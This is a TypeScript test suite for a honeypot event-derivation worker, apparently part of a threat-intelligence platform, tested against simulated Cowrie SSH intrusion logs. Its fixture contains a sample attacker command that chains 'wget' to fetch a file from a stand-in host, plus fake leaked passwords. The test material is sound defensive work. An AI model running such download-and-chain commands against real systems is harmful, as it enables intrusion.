import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createCollect, isDerived, readEventsAfter, type Collect, type StreamEvent } from "#collect";
import { createBus, createTopicBus, readMessages } from "#platform/bus";
import { systemClock } from "#platform/clock";
import type { Database } from "#platform/database";
import { silentLogger } from "#platform/log";
import { openTestDatabase, TEST_ENGINES, type TestDatabase } from "#platform/testing";
import { eraseAddress, listCredentials, retainedCredentials } from "./credential-store.ts";
import { Lift } from "./lift.ts";
import { loadGroups, saveGroups } from "./lift-store.ts";
import { LiftWorker, type LiftDeps } from "./lift-worker.ts";
import { defineLifter } from "./lifter.ts";
import { allLifters } from "./lifters.ts";
import { cowrie, quiet, testHash } from "./testing/lines.ts";

const BY = { actor: { kind: "system", id: "test", name: "test" }, requestId: null } as const;

/** Ends the process, so to say, in some of its transactions: after the work, before the commit. */
function dying(db: Database, dies: () => boolean): Database {
  const killed = new Error("killed");
  return {
    ...db,
    audited: async (fact, work) =>
      await db.audited(fact, async (tx) => {
        const value = await work(tx);
        if (dies()) throw killed;
        return value;
      }),
    bookkeep: async (what, work) =>
      await db.bookkeep(what, async (tx) => {
        const value = await work(tx);
        if (dies()) throw killed;
        return value;
      }),
  };
}

/** Until it is killed or has nothing more to do. @returns how it ended */
async function live(worker: LiftWorker): Promise<string> {
  try {
    for (let more = true; more;) {
      more = await worker.step();
      await worker.flush();
    }
    return "done";
  } catch (error) {
    return String(error);
  }
}

function intrusions(count: number): readonly string[] {
  return Array.from({ length: count }, (_, place) => {
    const about = { session: `s${place}`, src_ip: `203.0.113.${place % 40}` };
    const at = place * 20;
    return [
      cowrie(at, { eventid: "session.connect", ...about }),
      cowrie(at + 1, {
        eventid: "login.success",
        username: `u${place % 6}`,
        password: `Leaked-${place % 4}\u0000`,
        ...about,
      }),
      cowrie(at + 2, { eventid: "command.input", input: "id\u0000; wget http://192.0.2.1/a", ...about }),
      cowrie(at + 3, { eventid: "session.closed", ...about }),
    ];
  }).flat();
}

describe.each(TEST_ENGINES)("the loop that derives events, on %s", (engine) => {
  let world: TestDatabase;
  let collect: Collect;
  beforeAll(async () => {
    world = await openTestDatabase(engine);
    const deps = { database: world.db, clock: systemClock, log: silentLogger, bus: createBus(systemClock) };
    collect = createCollect({ ...deps, intakeBytesMax: 2 ** 24 });
    const created = await collect.sensors.create({ name: "decoy", kind: "ssh" }, BY);
    if (!created.ok) throw new Error(created.refusal.detail);
    const body = Buffer.from(intrusions(150).join("\n"));
    await collect.intake({
      sensor: created.value.sensor,
      by: BY,
      body,
      contentType: "text/plain",
      idempotencyKey: "1",
    });
  });
  afterAll(async () => {
    await collect.stop();
    await world[Symbol.asyncDispose]();
  });

  const stored = async (): Promise<readonly StreamEvent[]> => await readEventsAfter(world.db.read, 0, 10_000);

  test("killed in any transaction it goes on, and derives what an undisturbed run does, once and in order", async () => {
    const events = await stored();
    const undisturbed = new Lift(allLifters(testHash), quiet);
    const expected = events.flatMap((event) => undisturbed.feed(event).derived);
    expect(expected.length).toBeGreaterThan(150);

    let transactions = 0;
    let kills = 0;
    const dies = (): boolean => {
      transactions += 1;
      // Two of three: most batches are begun several times.
      if (transactions % 3 === 0) return false;
      kills += 1;
      return true;
    };
    const deps: LiftDeps = {
      database: dying(world.db, dies),
      clock: { now: () => new Date(Date.now() + transactions * 60_000) },
      bus: createBus(systemClock),
      topics: createTopicBus({ clock: systemClock, log: silentLogger }),
      log: silentLogger,
      lifters: allLifters(testHash),
    };
    const finalPosition = events.at(-1)?.position ?? 0;
    const lives: string[] = [];
    for (let position = 0; position < finalPosition;) {
      const worker = new LiftWorker({ ...deps, batchMax: 17 + (lives.length % 5) * 13 });
      lives.push(await live(worker));
      position = worker.position;
    }
    expect(new Set(lives)).toEqual(new Set(["Error: killed", "done"]));
    expect(kills).toBeGreaterThanOrEqual(20);

    const derived = (await stored()).filter(isDerived);
    expect(derived.map(({ fields }) => ({ ...fields, "derived.from": undefined }))).toEqual(
      expected.map(({ fields }) => JSON.parse(JSON.stringify(fields)) as object),
    );
    const { messages } = await readMessages(world.db.read, {
      after: 0,
      limit: 1_000,
      patterns: ["attacker.session.ended"],
    });
    expect(messages).toHaveLength(150);
    const { rows: credentials } = await listCredentials(world.db.read, { filter: {}, limit: 500 });
    expect(credentials.reduce((sum, { attempts }) => sum + attempts, 0)).toBe(150);
    const [leaked] = credentials.filter(({ principal }) => principal === "u3");
    expect(leaked).toMatchObject({
      service: "ssh",
      outcome: "success",
      common: false,
      secretKind: "plaintext",
      targets: 1,
    });
    expect(leaked?.secretHash).toMatch(/^[0-9a-f]{32}$/);
    const sameSecret = await listCredentials(world.db.read, {
      filter: { secretHash: leaked?.secretHash ?? "" },
      limit: 500,
    });
    expect(new Set(sameSecret.rows.map(({ secretHash }) => secretHash)).size).toBe(1);
    const { rows: reused } = await listCredentials(world.db.read, { filter: { reused: true }, limit: 500 });
    expect(reused).toEqual([]);
    expect(new Set(messages.map(({ payload }) => ("session_id" in payload ? payload.session_id : ""))).size).toBe(150);
  });

  test("credentials go when nobody tried them for as long as events are kept, but for those of a held address", async () => {
    // A hold on what only looks like an address holds nothing, and stops nothing.
    const heldSubjects = ["value:203.0.113.1", "value:dead", "value:::FFFF:203.0.113.250"];
    const due = { cutoff: new Date(Date.now() + 365 * 86_400_000), heldSubjects };
    await world.db.bookkeep("counters", async (tx) => {
      const { due: all, held } = await retainedCredentials.count(tx, due);
      expect(held).toEqual([{ why: "legal hold", records: expect.any(Number) }]);
      const kept = held[0]?.records ?? 0;
      expect(kept).toBeGreaterThan(0);
      expect(await retainedCredentials.remove(tx, { ...due, cutoff: new Date(0) }, 500)).toBe(0);
      expect(await retainedCredentials.remove(tx, due, 500)).toBe(all - kept);
    });
    const { rows } = await listCredentials(world.db.read, { filter: {}, limit: 500 });
    expect(new Set(rows.map(({ src }) => src))).toEqual(new Set(["203.0.113.1"]));
    const worker = new LiftWorker({
      database: world.db,
      clock: systemClock,
      bus: createBus(systemClock),
      topics: createTopicBus({ clock: systemClock, log: silentLogger }),
      log: silentLogger,
      lifters: allLifters(testHash),
    });
    while (await worker.step());
    await worker.flush();
    const remembering = async (address: string): Promise<number> => {
      const groups = await world.db.read.selectFrom("lift_group").select(["group_key", "state"]).execute();
      const words = groups.map(({ group_key, state }) => `${group_key} ${state}`.split(/[ "]/));
      return words.filter((own) => own.includes(address)).length;
    };
    const remembered = await remembering("203.0.113.1");
    expect(remembered).toBeGreaterThan(1);
    const others = await remembering("203.0.113.2");
    const visits = () => worker.figures().lifters.find(({ lifter }) => lifter === "visit")?.groups;
    const before = visits();
    const erase = async (subject: string) =>
      await world.db.bookkeep("counters", async (tx) => await eraseAddress(tx, subject));
    for (const other of ["usr_1", "value:dead", "value:203.0.113.99"]) expect(await erase(other)).toBe(0);
    expect(await erase("value:::ffff:203.0.113.1")).toBe(rows.length + remembered);
    expect([await remembering("203.0.113.1"), await remembering("203.0.113.2")]).toEqual([0, others]);
    // Nor does the stage that goes on write down again what it had in memory.
    const created = await collect.sensors.create({ name: "another", kind: "ssh" }, BY);
    if (!created.ok) throw new Error(created.refusal.detail);
    const line = cowrie(9_000, { eventid: "session.connect", session: "later", src_ip: "198.51.100.9" });
    const body = Buffer.from(line);
    await collect.intake({
      sensor: created.value.sensor,
      by: BY,
      body,
      contentType: "text/plain",
      idempotencyKey: "2",
    });
    while (await worker.step());
    await worker.flush();
    expect(await remembering("203.0.113.1")).toBe(0);
    while (await worker.step());
    await worker.flush();
    expect([await remembering("203.0.113.1"), await remembering("198.51.100.9")]).toEqual([0, expect.any(Number)]);
    expect(await remembering("198.51.100.9")).toBeGreaterThan(0);
    expect(visits(), "one went, one came").toBe(before);
    expect((await listCredentials(world.db.read, { filter: {}, limit: 500 })).rows).toEqual([]);
  });

  test("feeds nothing on what it derived, and says of an idle stream nothing", async () => {
    const before = await stored();
    const worker = new LiftWorker({
      database: world.db,
      clock: systemClock,
      bus: createBus(systemClock),
      topics: createTopicBus({ clock: systemClock, log: silentLogger }),
      log: silentLogger,
      lifters: allLifters(testHash),
    });
    while (await worker.step());
    await worker.flush();
    expect(worker.position).toBe(before.at(-1)?.position);
    expect(await stored()).toHaveLength(before.length);
    expect(worker.figures().lifters.find(({ lifter }) => lifter === "session")).toMatchObject({
      events: 0,
      failures: 0,
    });
  });

  const send = async (sensor: string, lines: readonly string[]): Promise<void> => {
    const created = await collect.sensors.create({ name: sensor, kind: "ssh" }, BY);
    if (!created.ok) throw new Error(created.refusal.detail);
    const body = Buffer.from(lines.join("\n"));
    const about = { sensor: created.value.sensor, by: BY, contentType: "text/plain", idempotencyKey: undefined };
    expect(await collect.intake({ ...about, body })).toMatchObject({ ok: true, value: { stored: lines.length } });
  };
  const workerOf = (lifters: LiftDeps["lifters"]) =>
    new LiftWorker({
      database: world.db,
      clock: systemClock,
      bus: createBus(systemClock),
      topics: createTopicBus({ clock: systemClock, log: silentLogger }),
      log: silentLogger,
      lifters,
    });

  /** Until everything is stored, as the loop would. @returns whether it got there */
  const goOn = async (worker: LiftWorker): Promise<boolean> => {
    const head = (await stored()).at(-1)?.position ?? 0;
    for (let turns = 0; turns < 100 && worker.position < head; turns += 1) {
      await worker.step();
      await worker.flush();
    }
    return worker.position >= head;
  };

  test("names that differ in half characters alone, sent so or cut so, stop nothing", async () => {
    const web = (session: string) =>
      JSON.stringify({
        timestamp: "2026-02-01T10:00:00Z",
        event_type: "http_request",
        src_ip: "198.51.100.77",
        method: "GET",
        url: "/",
        session,
      });
    const astral = ["\u{1F600}", "\u{1D11E}", "\u{20000}"];
    await send("half characters", [
      ...astral.map((one) => web(`${"x".repeat(127)}${one}`)),
      ...["d800", "d801"].map((half) => web("HALF").replace("HALF", `s\\u${half}`)),
    ]);
    const worker = workerOf(allLifters(testHash));
    expect(await goOn(worker)).toBe(true);
    expect(worker.figures().lifters.map(({ failures }) => failures)).toEqual(allLifters(testHash).map(() => 0));
    const saved = (key: string, seenMs: number) => ({ key, lane: "l", tick: 1, state: JSON.stringify({ seenMs }) });
    const upserts = [saved("s\ud800", 1), saved("s\ud801", 2), saved("s\ud801", 3)];
    const lifter = "of half characters";
    await world.db.bookkeep(
      "cursor",
      async (tx) => await saveGroups(tx, [{ lifter, version: 1, upserts, removals: [] }]),
    );
    const loaded = (await loadGroups(world.db.read)).filter((one) => one.lifter === lifter);
    expect(new Map(loaded.map(({ key, state }) => [key, state]))).toEqual(
      new Map([
        ["s\ud800", '{"seenMs":1}'],
        ["s\ud801", '{"seenMs":3}'],
      ]),
    );
  });

  test("an event whose outcome or state cannot be stored is set aside and counted, and all others count", async () => {
    const spoiling = defineLifter<string>({
      name: "spoiling",
      version: 1,
      kinds: ["auth_attempt"],
      groupsMax: 100,
      lift({ id, user }, groups, emit) {
        if (!user?.startsWith("z")) return;
        groups.set(id, user === "zstate" ? "NUL\0" : "lane", user);
        const time = new Date(user === "ztime" ? Number.NaN : 1_769_904_000_000);
        const about = { kind: "identity", action: "seen", category: "identity", identity: [id] } as const;
        emit.event({ ...about, time, fields: { seen: user }, from: [id] });
      },
    });
    const names = ["z1", "ztime", "z2", "z3", "zstate", "ztime", "z4", "z5"];
    const lines = names.map((username, at) => cowrie(at, { eventid: "login.failed", username, password: "x" }));
    await send("spoiling", lines);
    const from = (await stored()).length;
    const worker = workerOf([spoiling]);
    expect(await goOn(worker)).toBe(true);
    const derived = (await stored()).slice(from).filter(isDerived);
    expect(derived.map(({ fields }) => fields["seen"])).toEqual(["z1", "z2", "z3", "z4", "z5"]);
    expect(worker.figures().lifters).toMatchObject([{ failures: 3, groups: 7 }]);
    expect(await goOn(workerOf([spoiling])), "nothing of it comes again").toBe(true);
    expect((await stored()).length).toBe(from + derived.length);
  });

  test("stored state that is damaged is left out, and gone after the next save", async () => {
    await world.db.bookkeep("cursor", async (tx) => {
      await tx.updateTable("lift_group").set({ state: "{" }).where("lifter", "=", "spoiling").execute();
    });
    const lifter = defineLifter<string>({
      name: "spoiling",
      version: 1,
      kinds: ["auth_attempt"],
      groupsMax: 100,
      lift: () => undefined,
    });
    const worker = workerOf([lifter]);
    await send("after the damage", [cowrie(1, { eventid: "login.failed", username: "a", password: "x" })]);
    expect(await goOn(worker)).toBe(true);
    expect((await loadGroups(world.db.read)).filter((one) => one.lifter === "spoiling")).toEqual([]);
  });
});
